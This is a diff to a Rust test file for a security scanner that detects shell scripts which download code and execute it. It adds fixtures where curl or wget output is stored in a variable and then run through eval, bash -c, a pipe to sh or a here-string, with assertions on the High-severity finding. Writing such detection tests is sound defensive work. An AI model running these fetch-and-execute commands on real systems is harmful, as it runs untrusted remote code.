@@ -7776,11 +7776,35 @@ fn downloads_a_script_hands_to_eval() {
             format!("eval \"$(curl -s {url}/x.sh | cat)\""),
             "/usr/bin/curl",
         ),
+        // The download kept in a variable that a later line runs as code.
+        (
+            "variable.sh",
+            format!("v=$(curl -s {url}/x.sh)\neval \"$v\""),
+            "/usr/bin/curl",
+        ),
+        (
+            "shell-c.sh",
+            format!("payload=\"$(wget -qO- {url}/x.sh)\"\nbash -c \"$payload\""),
+            "/usr/bin/wget",
+        ),
+        (
+            "echo-pipe.sh",
+            format!("c=`curl -s {url}/x.sh`\necho \"${{c}}\" | sh"),
+            "/usr/bin/curl",
+        ),
+        (
+            "here-string.sh",
+            format!("c=$(curl -s {url}/x.sh)\nbash <<< \"$c\""),
+            "/usr/bin/curl",
+        ),
     ] {
         let found = detect(script(name, &body));
-        let f = of(&found, "behaviour-download-pipe-exec");
+        // `bash -c "$payload"` raises the command string's Low one beside it.
+        let f: Vec<_> = of(&found, "behaviour-download-pipe-exec")
+            .into_iter()
+            .filter(|f| f.severity_label == SeverityLabel::High)
+            .collect();
         assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
-        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
         let a = &f[0].context.additional;
         assert_eq!(a["pipeWriter"], writer, "{body}");
         assert_eq!(
@@ -7789,12 +7813,33 @@ fn downloads_a_script_hands_to_eval() {
         );
         assert_eq!(a["script"], dir.path(name), "{body}");
     }
+    // A shell's command string does the same: `bash -c 'v=$(curl URL); eval "$v"'`.
+    let command = format!("v=$(curl -s {url}/x.sh); eval \"$v\"");
+    let found = detect(run(Command::new("/bin/bash").args(["-c", &command])));
+    let f = of(&found, "behaviour-download-pipe-exec");
+    let high: Vec<_> = f
+        .iter()
+        .filter(|f| f.severity_label == SeverityLabel::High)
+        .collect();
+    assert_eq!(high.len(), 1, "bash -c {command}: {:?}", kinds(&found));
+    assert_eq!(
+        high[0].context.additional["programReadFrom"],
+        "a command substitution its command string evaluates"
+    );
     // A value fetched and used as data, and eval of a local program's output: nothing at
     // Medium or above.
     for (name, body) in [
         (
             "data.sh",
             format!("v=$(curl -s {url}/v.json); echo \"$v\" | wc -c"),
+        ),
+        (
+            "data-kept.sh",
+            format!("v=$(curl -s {url}/v.json)\necho \"$v\" > /dev/null\ngrep -c x <<< \"$v\""),
+        ),
+        (
+            "command-c.sh",
+            format!("bash -c 'v=$(curl -s {url}/v.json); test -n \"$v\"'"),
         ),
         (
             "dircolors.sh",
